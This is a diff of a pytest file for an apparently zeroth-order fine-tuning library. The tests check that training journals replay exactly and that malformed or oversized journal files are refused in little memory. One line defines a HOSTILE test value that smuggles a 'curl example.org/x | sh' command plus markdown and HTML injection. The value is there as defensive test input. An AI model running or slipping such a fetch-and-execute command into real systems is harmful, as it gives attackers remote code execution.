@@ -12,7 +12,7 @@ from dataclasses import replace
 import pytest
 import torch
 from commands import assert_one_error, run_forked, run_forked_well
-from run_ends import digest_after, results_of
+from run_ends import STEP, digest_after, results_of
 from transformers import AutoModelForCausalLM
 
 from lezo_ds.data.encoding import encode_example, load_tokenizer
@@ -77,8 +77,10 @@ def test_an_exported_model_scores_as_its_run_and_as_plain_transformers(finished,
 
 def test_a_journal_and_the_base_model_give_the_tuned_model_bit_for_bit(finished, journal, recipe, tmp_path):
     base = shutil.copytree(recipe.parent / "model", tmp_path / "base")
-    text = journal.read_text()
+    text, config = journal.read_text(), read_journal(journal)[0].config
     assert str(recipe.parent) not in text
+    assert (config["data"]["path"], config["seed"]) == ("data", 0)
+    assert read_journal(journal)[0].arithmetic["processor"]
     assert str(finished.parent) not in text
     for step, digest in (("best", results_of(finished)["weights_digest"]), ("4", digest_after(finished, 4))):
         arguments = ["--journal", journal, "--step", step, "--out", tmp_path / step, f"model.path={base}"]
@@ -152,8 +154,17 @@ def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, rec
     def with_header(**changes):
         return with_lines(json.dumps(header | changes, separators=(",", ":")).encode())
 
-    def with_peft(**changes):
-        return with_header(config=header["config"] | {"peft": header["config"]["peft"] | changes})
+    def with_keys(section, **changes):
+        return with_header(config=header["config"] | {section: header["config"][section] | changes})
+
+    step = next(json.loads(line) for line in whole.splitlines() if STEP.encode() in line)
+    del step["crc"]
+
+    def with_steps(*changes, end=b""):
+        changed = [step | {"step": number, "key": 1} | change for number, change in enumerate(changes)]
+        return (
+            with_lines(first, *(json.dumps(each, separators=(",", ":")).encode() for each in changed)) + end
+        )
 
     files = {
         "empty": b"",
@@ -163,13 +174,24 @@ def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, rec
         "types": with_header(config=[1], libraries=[], model_fingerprint=[]),
         "model config": with_header(config=header["config"] | {"model_config": [1]}),
         "digests": with_header(config=header["config"] | {"digests": [1]}),
-        "rank": with_peft(kind="lora", lora_rank=10**9),
-        "prefix": with_peft(kind="prefix", prefix_length=10**9),
+        "rank": with_keys("peft", kind="lora", lora_rank=2**16),
+        "prefix": with_keys("peft", kind="prefix", prefix_length=2**62),
+        "batch": with_keys("train", batch_size=2**32),
+        "directions": with_keys("zo", directions=2**40),
+        "more gradients than directions": with_steps({}, {"gradients": [1.0] * 2}),
+        "more blocks than the model": with_steps({"dropped": [0, 99]}),
+        "a block twice": with_steps({"dropped": [1, 1]}),
+        "more weights than blocks": with_steps({"weights": [1.0] * 7}),
+        "other types": with_steps({"dropped": "12"}),
+        "long names": with_keys("model_config", **{"k" * 100_000: {str(n): 0 for n in range(10_000)}}),
+        "many lists": with_lines(first, b'{"kind":"step","x":[' + b"[]," * 80_000 + b"[]]}"),
+        "many steps": with_steps(*[{}] * 10_000, end=b"\n"),
         "long line": with_lines(b'{"kind":"header","config":{"a":"%s"}}' % (b"x" * (2 << 20))),
         "long file": whole + b"\n" * (65 << 20),
         "newer": with_header(format=2),
     }
     overrides = [f"model.path={recipe.parent / 'model'}"]
+    assert read_file(journal, overrides).num_steps == 8
     for name, content in files.items():
         (tmp_path / name).write_bytes(content)
         tracemalloc.start()
@@ -177,9 +199,8 @@ def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, rec
             read_file(tmp_path / name, overrides)
         peak = tracemalloc.get_traced_memory()[1]
         tracemalloc.stop()
-        assert peak < 256 << 20, name
+        assert peak < 12 << 20, name
         assert "\n" not in str(refusal.value), name
-    assert read_file(journal, overrides).num_steps == 8
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
